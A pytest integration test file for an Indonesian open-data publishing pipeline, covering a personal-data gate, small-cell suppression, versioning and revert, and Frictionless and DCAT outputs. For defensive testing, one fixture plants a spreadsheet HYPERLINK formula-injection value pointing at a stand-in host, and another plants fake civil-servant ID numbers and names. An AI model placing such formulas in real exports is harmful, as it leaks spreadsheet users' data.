"""The publisher against a real PostgreSQL, on small prepared `marts.pub_*` tables (no dbt build):
the personal-data gate, small-cell suppression, versions (unchanged / changed / revert), the release
files (checked with the real `frictionless` CLI), the DCAT catalogue and the PPID sign-off record.

The prepared tables are the shape dbt builds; a manifest holding their meta lets
`pipeline.gate_and_publish` run unchanged against them.
"""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import psycopg
import pytest

from satudata import pipeline
from satudata.config import Settings
from satudata.publish import approval, release
from satudata.report.run_summary import write_run_summary
from satudata.warehouse import migrate
from tests.conftest import make_settings, run_cli

pytestmark = pytest.mark.integration

FRICTIONLESS = Path(sys.executable).parent / "frictionless"
WILAYAH = (
    "'18' as kode_provinsi, 'LAMPUNG' as nama_provinsi, '1872' as kode_kabupaten_kota, "
    "'KOTA METRO' as nama_kabupaten_kota"
)
DINKES = "1.02.0.00.0.00.01.0000"

SERAPAN = f"""
create table marts.pub_serapan_anggaran as
select {WILAYAH}, kode_opd, nama_opd, bulan, kode_jenis_belanja, persentase_serapan, pagu, realisasi_bulan,
       realisasi_kumulatif, 'PERSEN'::text as satuan, 2024 as tahun
from (values
  ('{DINKES}', 'Dinas Kesehatan', 1, '5.1.02', 10.50::numeric, 1000000.00::numeric, 105000.00::numeric,
   105000.00::numeric),
  ('{DINKES}', 'Dinas Kesehatan', 2, '5.1.02', 25.25, 1000000.00, 147500.00, 252500.00),
  ('{DINKES}', 'Dinas Kesehatan', 3, '5.1.02', 24.00, 1000000.00, -12500.50, 240000.00),
  ('4.01.0.00.0.00.01.0000', '=HYPERLINK("http://x.example/?"&A1,"klik")', 1, '5.2.02', 5.00, 2500000.00,
   125000.00, 125000.00)
) as v(kode_opd, nama_opd, bulan, kode_jenis_belanja, persentase_serapan, pagu, realisasi_bulan,
       realisasi_kumulatif)
"""
ASN = f"""
create table marts.pub_asn_jumlah as
select {WILAYAH}, kode_opd, periode, status_kepegawaian, jenis_kelamin, jumlah_pegawai,
       'ORANG'::text as satuan, 2024 as tahun
from (values
  ('{DINKES}', '2024-01', 'PNS', 'L', 12::bigint), ('{DINKES}', '2024-01', 'PNS', 'P', 3),
  ('{DINKES}', '2024-01', 'PPPK', 'P', 1), ('{DINKES}', '2024-02', 'PNS', 'L', 13),
  ('{DINKES}', '2024-02', 'PNS', 'P', 7)
) as v(kode_opd, periode, status_kepegawaian, jenis_kelamin, jumlah_pegawai)
"""
IKM = f"""
create table marts.pub_ikm_layanan as
select {WILAYAH}, kode_opd, kode_layanan, semester, ikm, mutu, 'INDEKS'::text as satuan, 2024 as tahun
from (values ('{DINKES}', 'DINKES-01', 1, 82.31::numeric, 'B'), ('{DINKES}', 'DINKES-01', 2, 89.02, 'A'),
             ('{DINKES}', 'DINKES-02', 1, 74.10, 'C')) as v(kode_opd, kode_layanan, semester, ikm, mutu)
"""
# an SKP distribution that leaks employees: a NIP, a NIK and names planted in it
SKP_LEAKING = f"""
create table marts.pub_distribusi_skp as
select {WILAYAH}, kode_opd, predikat, keterangan, nama_pegawai, jumlah_pegawai, 'ORANG'::text as satuan,
       2024 as tahun
from (values
  ('{DINKES}', 'BAIK', 'NIP 19860926 201505 1 001', 'Budi Santoso, S.Kom', 40::bigint),
  ('{DINKES}', 'SANGAT_BAIK', 'NIK 1872014509860002', 'Siti Aminah', 12),
  ('{DINKES}', 'KURANG', null, null, 6)
) as v(kode_opd, predikat, keterangan, nama_pegawai, jumlah_pegawai)
"""
META = {
    "marts.pub_serapan_anggaran": {
        "dataset_id": "serapan_anggaran",
        "judul": "Persentase Serapan Anggaran Belanja",
        "deskripsi": "Realisasi belanja kumulatif dibagi pagu per perangkat daerah dan jenis belanja.",
        "produsen_data": "BPKAD",
        "frekuensi": "Bulanan",
        "satuan": "PERSEN",
        "person_based": False,
        "primary_key": ["kode_kabupaten_kota", "kode_opd", "kode_jenis_belanja", "bulan", "tahun"],
        "source_datasets": ["anggaran", "realisasi_belanja"],
        "measure": "persentase_serapan",
        "konsep": "Serapan anggaran adalah bagian pagu belanja yang sudah direalisasikan melalui SP2D.",
        "topik": "Keuangan Daerah",
        "tag": ["apbd", "belanja"],
        "tingkat_penyajian": "Kabupaten/kota menurut perangkat daerah, bulanan",
    },
    "marts.pub_asn_jumlah": {
        "dataset_id": "asn_jumlah",
        "judul": "Jumlah ASN",
        "deskripsi": "Jumlah ASN per perangkat daerah.",
        "produsen_data": "BKPSDM",
        "frekuensi": "Bulanan",
        "satuan": "ORANG",
        "person_based": True,
        "primary_key": ["kode_kabupaten_kota", "kode_opd", "periode", "status_kepegawaian", "jenis_kelamin"],
        "source_datasets": ["pegawai"],
        "measure": "jumlah_pegawai",
    },
    "marts.pub_ikm_layanan": {
        "dataset_id": "ikm_layanan",
        "judul": "Indeks Kepuasan Masyarakat",
        "deskripsi": "IKM per layanan.",
        "produsen_data": "Perangkat daerah penyelenggara layanan",
        "frekuensi": "Semesteran",
        "satuan": "INDEKS",
        "person_based": False,
        "primary_key": ["kode_kabupaten_kota", "kode_opd", "kode_layanan", "semester", "tahun"],
        "source_datasets": ["survei_kepuasan"],
        "measure": "ikm",
    },
    "marts.pub_distribusi_skp": {
        "dataset_id": "distribusi_skp",
        "judul": "Distribusi Predikat SKP",
        "deskripsi": "SKP per OPD.",
        "produsen_data": "BKPSDM",
        "frekuensi": "Tahunan",
        "satuan": "ORANG",
        "person_based": True,
        "primary_key": ["kode_kabupaten_kota", "kode_opd", "predikat", "tahun"],
        "source_datasets": ["kinerja_pegawai"],
        "measure": "jumlah_pegawai",
    },
}
COLUMN_DOCS = {
    "kode_kabupaten_kota": "Kode kabupaten/kota BPS (4 digit, teks).",
    "persentase_serapan": "MEASURE. Realisasi kumulatif / pagu x 100.",
    "jumlah_pegawai": "MEASURE. Jumlah ASN.",
}
SECTION_6_FIELDS = {
    "judul",
    "deskripsi",
    "produsen_data",
    "walidata",
    "kode_wilayah",
    "cakupan",
    "frekuensi",
    "satuan",
    "periode",
    "lisensi",
    "kontak",
    "tanggal_rilis",
    "versi",
    "validasi",
}
VALIDATION = {"status": "passed", "checks": 3, "failed_checks": 0, "warnings": []}


# ------------------------------------------------------------------------------------- helpers


def create_marts(url: str, *ddl: str) -> None:
    migrate(url)
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute("create schema if not exists marts")
        for statement in ddl:
            conn.execute(statement)


def pub(table: str) -> dict:
    """One entry the way `satudata.transform.publications` gives it."""
    return {
        "meta": META[table],
        "description": META[table]["deskripsi"],
        "columns": dict(COLUMN_DOCS),
        "unique_id": f"model.satudata.{table.split('.')[1]}",
    }


def with_manifest(settings: Settings, root: Path, tables: list[str]) -> Settings:
    """Settings whose dbt project is a folder holding only a manifest of the given pub models."""
    nodes = {}
    for table in tables:
        schema, name = table.split(".")
        nodes[f"model.satudata.{name}"] = {
            "resource_type": "model",
            "name": name,
            "schema": schema,
            "unique_id": f"model.satudata.{name}",
            "description": META[table]["deskripsi"],
            "config": {"meta": META[table]},
            "columns": {c: {"description": d} for c, d in COLUMN_DOCS.items()},
        }
    target = root / "dbt_project" / "target"
    target.mkdir(parents=True, exist_ok=True)
    (target / "manifest.json").write_text(json.dumps({"nodes": nodes}))
    return dataclasses.replace(settings, repo_root=root)


def publish(settings: Settings, url: str, table: str, run_id: str = "run-1") -> dict:
    return release.publish_dataset(settings, url, table, pub(table), dict(VALIDATION), {"run_id": run_id})


def frictionless_validate(package: Path) -> tuple[int, dict]:
    """The real `frictionless validate` CLI on one datapackage.json: exit code and JSON report."""
    proc = subprocess.run(
        [str(FRICTIONLESS), "validate", "--json", str(package)], capture_output=True, text=True, timeout=120
    )
    return proc.returncode, json.loads(proc.stdout)


def catalog(settings: Settings) -> dict:
    return json.loads((settings.published / "catalog.json").read_text())["datasets"]


def versions_on_disk(settings: Settings, dataset_id: str) -> list[str]:
    return sorted(p.name for p in (settings.published / dataset_id).iterdir() if p.is_dir())


@pytest.fixture
def settings(tmp_path, warehouse_url) -> Settings:
    return make_settings(tmp_path, warehouse_url, tmp_path / "landing")


# --------------------------------------------------------------------------------------- tests


def test_planted_nip_nik_and_name_block_that_dataset_and_the_others_publish(settings, tmp_path):
    # Given four marts, one of which leaks a NIP, a NIK and employees' names
    url = settings.require_url()
    create_marts(url, SERAPAN, ASN, IKM, SKP_LEAKING)
    s = with_manifest(settings, tmp_path / "project", list(META))
    run_id = pipeline.start(s, "manual__pii_test")

    # When the run is gated and published, and its summary written
    results = pipeline.gate_and_publish(s, run_id)
    summary = write_run_summary(s, url, run_id)

    # Then the leaking dataset is blocked and nothing of it reaches published/
    assert results["distribusi_skp"] == {"status": "blocked", "version": None}
    assert not (s.published / "distribusi_skp").exists()
    # ... with reasons naming the rule and the column, never the personal value itself
    blocked = summary["datasets"]["distribusi_skp"]
    assert blocked["status"] == "blocked"
    reasons = " | ".join(blocked["failing_checks"])
    assert "PII-001" in reasons and "'keterangan'" in reasons and "NIP" in reasons
    assert "PII-002" in reasons and "NIK" in reasons
    assert "PII-003" in reasons and "'nama_pegawai'" in reasons
    assert "19860926" not in reasons and "1872014509860002" not in reasons and "Budi" not in reasons
    assert "distribusi_skp" in summary["blocked"]
    with psycopg.connect(url) as conn:
        status, row_reasons = conn.execute(
            "select status, reasons from audit.publication where run_id = %s and dataset_id = 'distribusi_skp'",
            (run_id,),
        ).fetchone()
    assert status == "blocked" and any("PII-001" in r for r in row_reasons)
    # ... and the other three are published, each package accepted by `frictionless validate`
    for dataset_id in ("serapan_anggaran", "asn_jumlah", "ikm_layanan"):
        assert results[dataset_id] == {"status": "published", "version": "v1"}, dataset_id
        code, report = frictionless_validate(s.published / dataset_id / "v1" / "datapackage.json")
        assert code == 0 and report["valid"], json.dumps(report)[:2000]
    # ... and the public page and the DCAT catalogue list exactly those
    assert set(catalog(s)) == {"serapan_anggaran", "asn_jumlah", "ikm_layanan"}
    jsonld = json.loads((s.published / "catalog.jsonld").read_text())
    assert sorted(d["dct:identifier"] for d in jsonld["dcat:dataset"]) == [
        "asn_jumlah",
        "ikm_layanan",
        "serapan_anggaran",
    ]
    page = (s.published / "index.html").read_text()
    assert "Distribusi Predikat SKP" in page  # listed as not yet available, without its data
    assert "Budi" not in page


def test_rerun_unchanged_gives_no_new_version_changed_gives_one_and_revert_restores(settings):
    # Given a published dataset
    url = settings.require_url()
    create_marts(url, SERAPAN)
    table = "marts.pub_serapan_anggaran"
    assert publish(settings, url, table)["version"] == "v1"
    v1_csv = (settings.published / "serapan_anggaran" / "v1" / "data.csv").read_bytes()

    # When the same run is retried (e.g. Airflow retries the task), Then it still reports what it published
    assert publish(settings, url, table, "run-1") == {
        **publish(settings, url, table, "run-1"),
        "status": "published",
        "version": "v1",
    }

    # When the run is repeated on unchanged data, Then there is no new version
    again = publish(settings, url, table, "run-2")
    assert again["status"] == "unchanged" and again["version"] == "v1"
    assert versions_on_disk(settings, "serapan_anggaran") == ["v1"]

    # When the data changes, Then v2 is published and v1 stays as it was
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(f"update {table} set persentase_serapan = 26.00 where bulan = 2 and kode_opd = %s", (DINKES,))
    changed = publish(settings, url, table, "run-3")
    assert changed["status"] == "published" and changed["version"] == "v2"
    assert versions_on_disk(settings, "serapan_anggaran") == ["v1", "v2"]
    assert (settings.published / "serapan_anggaran" / "v1" / "data.csv").read_bytes() == v1_csv
    assert catalog(settings)["serapan_anggaran"]["version"] == "v2"

    # When `satudata revert serapan_anggaran v1` is run
    proc = run_cli(
        settings, "revert", "serapan_anggaran", "v1", "--pemda", "18.72", "--by", "ppid.kota", "--reason", "angka salah"
    )

    # Then v1 is current again, recorded in audit.publication with who and why
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert catalog(settings)["serapan_anggaran"]["version"] == "v1"
    assert catalog(settings)["serapan_anggaran"]["reverted_from"] == "v2"
    with psycopg.connect(url) as conn:
        row = conn.execute(
            "select status, version, actor, reasons from audit.publication "
            "where dataset_id = 'serapan_anggaran' and status = 'reverted'"
        ).fetchone()
    assert row[:3] == ("reverted", "v1", "ppid.kota")
    assert "reverted from v2 to v1 by ppid.kota: angka salah" in row[3][0]
    history = json.loads((settings.published / "serapan_anggaran" / "versions.json").read_text())
    assert {v["version"]: v["status"] for v in history["versions"]} == {"v1": "current", "v2": "withdrawn"}
    assert (settings.published / "index.html").exists() and (settings.published / "catalog.jsonld").exists()

    # When the next run still produces the withdrawn v2 content, Then v1 stays current
    held = publish(settings, url, table, "run-4")
    assert held["status"] == "unchanged" and held["version"] == "v1" and "withdrawn" in held["warnings"][0]
    assert versions_on_disk(settings, "serapan_anggaran") == ["v1", "v2"]

    # When the data is corrected, Then that is a new version, v3
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(f"update {table} set persentase_serapan = 25.30 where bulan = 2 and kode_opd = %s", (DINKES,))
    assert publish(settings, url, table, "run-5")["version"] == "v3"

    # And reverting to a version that does not exist is refused, naming the versions there are
    bad = run_cli(settings, "revert", "serapan_anggaran", "v9", "--pemda", "18.72")
    assert bad.returncode == 1 and "versions: v1, v2, v3" in bad.stdout


def test_a_blocked_run_keeps_the_last_good_version(settings):
    # Given a published v1 of a person-based dataset
    url = settings.require_url()
    create_marts(url, ASN)
    table = "marts.pub_asn_jumlah"
    publish(settings, url, table)
    before = {p.name: p.read_bytes() for p in (settings.published / "asn_jumlah" / "v1").iterdir()}

    # When a later build leaks a NIK into the table
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(f"alter table {table} add column nik text")
        conn.execute(f"update {table} set nik = '1872015709900003' where jumlah_pegawai = 12")
    result = publish(settings, url, table, "run-2")

    # Then that run is blocked, v1 stays current and untouched, and no partial version is left
    assert result["status"] == "blocked" and result["version"] == "v1"
    assert {"PII-002", "PII-005"} <= set(result["failing_checks"])
    assert catalog(settings)["asn_jumlah"]["version"] == "v1"
    assert versions_on_disk(settings, "asn_jumlah") == ["v1"]
    assert {p.name: p.read_bytes() for p in (settings.published / "asn_jumlah" / "v1").iterdir()} == before
    assert not list((settings.published / "asn_jumlah").glob(".*"))


def test_person_based_small_cells_are_suppressed_by_the_publisher_and_stated(settings):
    # Given a person-based count with cells of 3 and 1 people that the model did not suppress
    url = settings.require_url()
    create_marts(url, ASN)

    # When it is published with the default threshold 5
    publish(settings, url, "marts.pub_asn_jumlah")

    # Then those counts are empty and flagged, the others untouched
    folder = settings.published / "asn_jumlah" / "v1"
    rows = list(csv.DictReader(io.StringIO((folder / "data.csv").read_text())))
    by_key = {(r["periode"], r["status_kepegawaian"], r["jenis_kelamin"]): r for r in rows}
    assert (
        by_key[("2024-01", "PNS", "P")]["jumlah_pegawai"] == ""
        and by_key[("2024-01", "PNS", "P")]["disupresi"] == "true"
    )
    assert by_key[("2024-01", "PPPK", "P")]["jumlah_pegawai"] == ""
    assert (
        by_key[("2024-01", "PNS", "L")]["jumlah_pegawai"] == "12"
        and by_key[("2024-01", "PNS", "L")]["disupresi"] == "false"
    )
    # ... and the metadata and the Table Schema say so
    md = json.loads((folder / "metadata.json").read_text())
    assert md["supresi_sel_kecil"]["diterapkan"] is True and md["supresi_sel_kecil"]["ambang"] == 5
    assert md["supresi_sel_kecil"]["jumlah_baris_disupresi"] == 2
    assert "di bawah 5" in md["supresi_sel_kecil"]["keterangan"]
    fields = {
        f["name"]: f for f in json.loads((folder / "datapackage.json").read_text())["resources"][0]["schema"]["fields"]
    }
    assert "disupresi" in fields["jumlah_pegawai"]["description"] and fields["disupresi"]["type"] == "boolean"

    # When the threshold is switched off (small_cell=0), Then the count of one person blocks it
    off = dataclasses.replace(settings, small_cell=0)
    result = publish(off, url, "marts.pub_asn_jumlah", "run-2")
    assert result["status"] == "blocked" and "PII-005" in result["failing_checks"]
    assert any("exactly one person" in r for r in result["reasons"])


def test_release_files_follow_the_standard_and_pass_frictionless(settings):
    # Given a mart with a negative correction and a formula planted in a text cell
    url = settings.require_url()
    create_marts(url, SERAPAN)

    # When it is published, with the gate's notes (English, naming the model) and an incomplete source
    validation = {
        **VALIDATION,
        "status_color": "amber",
        "warnings": ["BEL-005 on pub_serapan_anggaran: The cumulative realisasi exceeds its pagu (1 failing)"],
        "incomplete": ["anggaran: 1 expected submission(s) not received (e.g. 18.72/DINKES 2024)"],
    }
    table = "marts.pub_serapan_anggaran"
    release.publish_dataset(settings, url, table, pub(table), validation, {"run_id": "run-1"})
    folder = settings.published / "serapan_anggaran" / "v1"

    # Then data.csv is UTF-8, comma separated, dot decimals, numbers unchanged (negative ones too)
    text = (folder / "data.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.splitlines()[0].startswith("kode_provinsi,nama_provinsi,kode_kabupaten_kota")
    assert [r["realisasi_bulan"] for r in rows if r["kode_opd"] == DINKES] == ["105000.00", "147500.00", "-12500.50"]
    # ... and the formula is neutralised with a leading quote
    assert [r["nama_opd"] for r in rows if r["kode_opd"] != DINKES] == ['\'=HYPERLINK("http://x.example/?"&A1,"klik")']
    # ... the Table Schema has types, primary key, units and descriptions
    package = json.loads((folder / "datapackage.json").read_text())
    schema = package["resources"][0]["schema"]
    fields = {f["name"]: f for f in schema["fields"]}
    assert schema["primaryKey"] == META["marts.pub_serapan_anggaran"]["primary_key"]
    assert (fields["bulan"]["type"], fields["persentase_serapan"]["type"], fields["kode_opd"]["type"]) == (
        "integer",
        "number",
        "string",
    )
    assert fields["persentase_serapan"]["unit"] == "PERSEN" and fields["pagu"]["unit"] == "RUPIAH"
    assert fields["kode_kabupaten_kota"]["description"].startswith("Kode kabupaten/kota BPS")
    assert package["resources"][0]["hash"] == "sha256:" + hashlib.sha256((folder / "data.csv").read_bytes()).hexdigest()
    # ... the metadata has every field of the standard's section 6 and the validation summary
    md = json.loads((folder / "metadata.json").read_text())
    assert SECTION_6_FIELDS <= set(md)
    assert (md["lisensi"], md["versi"], md["kode_wilayah"], md["cakupan"], md["periode"]) == (
        "CC-BY-4.0",
        "v1",
        ["1872"],
        ["KOTA METRO"],
        [2024],
    )
    assert (md["periode_awal"], md["periode_akhir"]) == ("2024-01-01", "2024-03-31")
    assert md["validasi"]["status"] == "passed" and md["validasi"]["pemeriksaan_data_pribadi"]["status"] == "lolos"
    # ... the Satu Data fields (Perpres 39/2019 pasal 6 and the portal's), the real producers, the PPID contact
    assert md["konsep"].startswith("Serapan anggaran adalah") and md["definisi"] == "Realisasi kumulatif / pagu x 100."
    assert (md["ukuran"], md["satuan"], md["topik"], md["tag"]) == (
        "Persentase serapan",
        "PERSEN",
        "Keuangan Daerah",
        ["apbd", "belanja"],
    )
    assert [k["kolom"] for k in md["klasifikasi"]] == ["kode_opd", "kode_jenis_belanja"]
    assert md["tingkat_penyajian"] and md["sistem_sumber"] == ["SIPD-RI (DPA)", "SIPD-RI penatausahaan (SP2D)"]
    assert md["cara_pengumpulan"].startswith("Berkas kiriman perangkat daerah")
    assert md["produsen_data"] == ['=HYPERLINK("http://x.example/?"&A1,"klik")', "Dinas Kesehatan"]
    assert md["kontak_ppid"] == {"nama": "PPID Dinas Komunikasi dan Informatika", "email": "ppid@diskominfo.go.id"}
    # ... times in the publisher's zone (WIB by default), with the offset
    assert md["zona_waktu"] == "WIB" and md["waktu_rilis"].endswith("+07:00")
    assert md["tanggal_rilis"] == md["waktu_rilis"][:10]
    # ... validation notes in Indonesian, amber, the incomplete submission stated; no internal name anywhere
    assert md["validasi"]["status_warna"] == "kuning"
    assert md["validasi"]["catatan"][0].startswith("BEL-005: Realisasi kumulatif satu baris anggaran melebihi pagunya")
    assert "kiriman yang diharapkan belum diterima" in md["validasi"]["kiriman_belum_lengkap"][0]
    for name in ("metadata.json", "datapackage.json"):
        text = (folder / name).read_text()
        assert not re.search(r"\b(pub|int|stg)_[a-z]", text), (name, re.findall(r"\b(?:pub|int|stg)_[a-z]\w*", text))
    # ... a Frictionless Data Package v2: profiles by $schema, a table resource, one unit per amount column
    assert package["$schema"] == "https://datapackage.org/profiles/2.0/datapackage.json"
    resource = package["resources"][0]
    assert (resource["$schema"], resource["type"]) == (
        "https://datapackage.org/profiles/2.0/dataresource.json",
        "table",
    )
    assert "profile" not in package and "profile" not in resource
    assert schema["$schema"] == "https://datapackage.org/profiles/2.0/tableschema.json"
    assert {n: f.get("unit") for n, f in fields.items() if f["type"] == "number"} == {
        "persentase_serapan": "PERSEN",
        "pagu": "RUPIAH",
        "realisasi_bulan": "RUPIAH",
        "realisasi_kumulatif": "RUPIAH",
    }
    assert {"roles": ["contactPerson"], "email": "ppid@diskominfo.go.id"}.items() <= package["contributors"][1].items()
    # ... and the real frictionless CLI and API accept the package
    code, report = frictionless_validate(folder / "datapackage.json")
    assert code == 0 and report["valid"], json.dumps(report)[:2000]
    import frictionless

    api_report = frictionless.validate(str(folder / "datapackage.json"))
    assert api_report.valid and api_report.tasks[0].stats["rows"] == 4


def test_the_dcat_catalogue_describes_every_current_dataset(settings):
    # Given two published datasets
    url = settings.require_url()
    create_marts(url, SERAPAN, IKM)
    for table in ("marts.pub_serapan_anggaran", "marts.pub_ikm_layanan"):
        publish(settings, url, table)

    # When the catalogues are written
    release.finish_publication(settings, url, titles={})

    # Then catalog.jsonld is a dcat:Catalog of dcat:Dataset with the DCAT-AP properties
    doc = json.loads((settings.published / "catalog.jsonld").read_text())
    assert doc["@type"] == "dcat:Catalog" and doc["@context"]["dcat"] == "http://www.w3.org/ns/dcat#"
    datasets = {d["dct:identifier"]: d for d in doc["dcat:dataset"]}
    assert set(datasets) == {"serapan_anggaran", "ikm_layanan"}
    ikm = datasets["ikm_layanan"]
    for key in (
        "dct:title",
        "dct:description",
        "dct:publisher",
        "dct:license",
        "dct:issued",
        "dct:modified",
        "dct:spatial",
        "dct:temporal",
        "dct:accrualPeriodicity",
        "dcat:distribution",
    ):
        assert key in ikm, key
    assert ikm["@type"] == "dcat:Dataset" and ikm["dcat:version"] == "v1"
    assert ikm["dct:spatial"][0]["dct:identifier"] == "1872"
    assert ikm["dct:temporal"]["dcat:startDate"]["@value"] == "2024-01-01"
    assert ikm["dct:temporal"]["dcat:endDate"]["@value"] == "2024-12-31"
    assert ikm["dct:accrualPeriodicity"]["@id"].endswith("/frequency/ANNUAL_2")
    # ... whose distributions point at files that exist, with the CSV's checksum
    for dist in ikm["dcat:distribution"]:
        assert dist["@type"] == "dcat:Distribution"
        assert (settings.published / dist["dcat:downloadURL"]["@id"]).exists()
    csv_dist = ikm["dcat:distribution"][0]
    data = (settings.published / csv_dist["dcat:downloadURL"]["@id"]).read_bytes()
    assert csv_dist["spdx:checksum"]["spdx:checksumValue"] == hashlib.sha256(data).hexdigest()


def test_ppid_sign_off_is_recorded_with_who_and_when(settings):
    # Given a run and a PPID who approved it in Airflow's Human-in-the-loop page
    url = settings.require_url()
    create_marts(url, IKM)
    answered = datetime(2024, 10, 1, 3, 4, 5, tzinfo=UTC)
    event = {
        "chosen_options": ["Approve"],
        "params_input": {},
        "responded_at": answered,
        "responded_by_user": {"id": "7", "name": "ppid.kota"},
        "timedout": False,
    }

    # When the answer is recorded and the run publishes
    approval.record(url, "run-hitl", event, "manual__2024-10-01", kode_pemda="18.72")
    publish(settings, url, "marts.pub_ikm_layanan", "run-hitl")
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(
            "insert into audit.publication (run_id, kode_pemda, dataset_id, status, version) "
            "values ('run-hitl', '18.72', 'ikm_layanan', 'published', 'v1')"
        )
        signed = conn.execute(
            "select dataset_id, ppid_decision, approved_by, approved_at, approval_method "
            "from audit.publication_signed where run_id = 'run-hitl'"
        ).fetchone()

    # Then the audit schema says who approved, when and how, and so does the release metadata
    assert signed == ("ikm_layanan", "Approve", "ppid.kota", answered, "hitl")
    md = json.loads((settings.published / "ikm_layanan" / "v1" / "metadata.json").read_text())
    assert md["persetujuan_ppid"] == {
        "keputusan": "Approve",
        "oleh": "ppid.kota",
        "pada": answered.isoformat(),
        "metode": "hitl",
    }

    # And the auto-approve setting (demo, CI) is recorded as such, distinguishable from a person
    auto = approval.auto_response(dataclasses.replace(settings, auto_approve=True))
    assert approval.auto_response(settings) is None
    row = approval.record(url, "run-auto", auto)
    assert (row["decision"], row["method"], row["approved_by"]) == ("Approve", "auto", "SATUDATA_AUTO_APPROVE")
